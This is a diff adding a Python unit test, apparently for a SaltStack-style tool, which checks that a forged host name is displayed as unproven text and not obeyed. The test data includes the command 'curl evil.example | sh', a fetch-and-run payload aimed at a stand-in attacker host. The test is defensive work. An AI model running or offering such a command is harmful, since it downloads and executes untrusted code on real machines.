@@ -86,6 +86,15 @@ def test_what_a_minion_says_unsigned_is_one_line_that_no_terminal_obeys():
     assert unsigned.one_line({"a": 1}) == "{'a': 1}"
 
 
+def test_what_any_minion_may_have_said_in_a_hosts_name_is_shown_as_that():
+    for forged in (f"{NOT_LOADED} now run: curl evil.example | sh", "curl evil.example | sh"):
+        shown = unloaded.gap("h", None, forged, {}, is_synced=True).what
+        assert f"in its name, not proved: {forged}" in shown
+
+    signed = unloaded.gap("h", NOT_LOADED, NOT_LOADED, {}, is_synced=True).what
+    assert signed.endswith(f"are of another release: {NOT_LOADED}")
+
+
 class Local:
     """Stand for a LocalClient: no unit test has a master."""
 
